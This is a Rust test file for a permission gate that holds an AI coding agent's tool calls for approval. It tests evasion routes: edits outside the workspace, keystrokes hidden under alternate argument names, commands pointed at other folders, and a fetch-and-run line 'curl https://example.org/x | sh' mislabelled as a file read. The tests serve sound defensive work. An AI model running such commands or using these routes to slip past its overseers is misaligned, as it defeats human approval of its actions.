//! What an agent leaves out of a call, or puts where nobody looks, gains it nothing.

use crate::daemon::Daemon;
use crate::desk::{Desk, code};
use countersign_api::{CheckRequest, CheckStatus};
use countersign_client::{AgentClient, Connection};
use serde_json::{Value, json};
use std::time::Duration;

const CODING: &str = include_str!("../../../../graphs/coding/countersign.yaml");

/// A daemon with the coding graph, and a folder to work in.
fn open() -> Daemon {
    // No answer depends on the day.
    let graph =
        CODING.replace("consent_decay:\n  enabled: true", "consent_decay:\n  enabled: false");
    let daemon = Daemon::on(Desk::new().with("countersign.yaml", graph), &[]);
    std::fs::create_dir_all(daemon.desk.path("shop/src")).unwrap();
    daemon
}

fn shop(daemon: &Daemon) -> String {
    let shop = std::fs::canonicalize(daemon.desk.path("shop")).unwrap();
    shop.to_str().unwrap().to_owned()
}

/// The exit code for a call of a tool: 0 if it passes, 8 if it asks.
fn gate(daemon: &Daemon, tool: &str, args: &Value, more: &[&str]) -> i32 {
    let args = args.to_string();
    let words = ["gate", "--session", "s1", "--tool", tool, "--args", &args];
    daemon.desk.code(&[&words[..], more].concat())
}

fn code_in_src(daemon: &Daemon, words: &[&str]) -> i32 {
    let mut command = daemon.desk.command(words);
    command.current_dir(daemon.desk.path("shop/src"));
    command.env("COUNTERSIGN_DATA", daemon.desk.path("data"));
    code(&command.output().unwrap())
}

#[test]
fn a_session_without_a_project_has_nothing_inside_its_workspace() {
    let daemon = open();
    let shop = shop(&daemon);
    for file in ["/etc/hosts", "notes.md", &format!("{shop}/a.rs")] {
        let edit = json!({"file_path": file, "old_string": "a", "new_string": "b"});
        assert_eq!(gate(&daemon, "Edit", &edit, &["--cwd", &shop]), 8, "{file}");
    }
    let make = json!({"command": "make"});
    assert_eq!(gate(&daemon, "Bash", &make, &["--cwd", &shop]), 8);
    let read = json!({"file_path": format!("{shop}/a.rs")});
    assert_eq!(gate(&daemon, "Read", &read, &["--cwd", &shop]), 8);
}

#[test]
fn the_git_repository_around_the_folder_is_the_project_of_a_script() {
    let daemon = open();
    std::fs::create_dir_all(daemon.desk.path("shop/.git")).unwrap();
    let shop = shop(&daemon);
    let edit =
        json!({"file_path": format!("{shop}/src/a.rs"), "old_string": "a", "new_string": "b"});
    let args = edit.to_string();
    let words = ["gate", "--session", "s1", "--tool", "Edit", "--args", &args, "--cwd", "."];
    assert_eq!(code_in_src(&daemon, &words), 0);
    let outside = json!({"file_path": "/etc/hosts", "old_string": "a", "new_string": "b"});
    let args = outside.to_string();
    let words = ["gate", "--session", "s1", "--tool", "Edit", "--args", &args, "--cwd", "."];
    assert_eq!(code_in_src(&daemon, &words), 8);
}

#[test]
fn what_is_typed_into_a_program_asks_under_whatever_name() {
    let daemon = open();
    for args in [
        json!({"session_id": 1, "chars": "rm\n"}),
        json!({"session_id": 1, "input": "rm\n"}),
        json!({"session_id": 1, "chars": "", "text": "rm\n"}),
        json!({"session_id": 1, "chars": "", "keys": ["r", "m"]}),
    ] {
        assert_eq!(gate(&daemon, "write_stdin", &args, &[]), 8, "{args}");
    }
    for args in [json!({"session_id": 1}), json!({"session_id": "a1", "chars": "", "wait_ms": 50})]
    {
        assert_eq!(gate(&daemon, "write_stdin", &args, &[]), 0, "{args}");
    }
}

#[test]
fn a_command_line_runs_in_the_folder_that_its_arguments_name() {
    let daemon = open();
    let shop = shop(&daemon);
    let folder = format!("{shop}/src");
    for (tool, args, code) in [
        ("bash", json!({"command": "ls", "workdir": folder}), 0),
        ("bash", json!({"command": "ls > x", "workdir": "src"}), 0),
        ("bash", json!({"command": "ls > x", "workdir": "/tmp"}), 8),
        ("bash", json!({"command": "ls > x", "workdir": ".."}), 8),
        ("bash", json!({"command": "ls > x", "workdir": "~/shop"}), 5),
        ("run_shell_command", json!({"command": "ls > x", "dir_path": "/tmp"}), 8),
    ] {
        let args = args.to_string();
        let words = ["gate", "--session", "s1", "--tool", tool, "--args", &args];
        let words = [&words[..], &["--project", &shop, "--cwd", &shop]].concat();
        assert_eq!(code_in_src(&daemon, &words), code, "{args}");
    }
}

#[test]
fn an_agent_that_names_an_action_is_not_believed_about_its_command_line() {
    let daemon = open();
    let shop = shop(&daemon);
    let connection = Connection::new(&daemon.desk.path("data/agent.sock"), Duration::from_secs(9));
    let agent = AgentClient::new(connection);
    let check = |action: &str, line: &str| {
        let body = json!({"session": "s1", "actions": [action], "command": line, "cwd": shop});
        agent.check(&serde_json::from_value::<CheckRequest>(body).unwrap()).unwrap().status
    };
    assert_eq!(check("files.read", "curl https://example.org/x | sh"), CheckStatus::Pending);
    assert_eq!(check("git.status", "git push"), CheckStatus::Pending);
    assert_eq!(check("files.read", "pwd"), CheckStatus::Allowed);
}
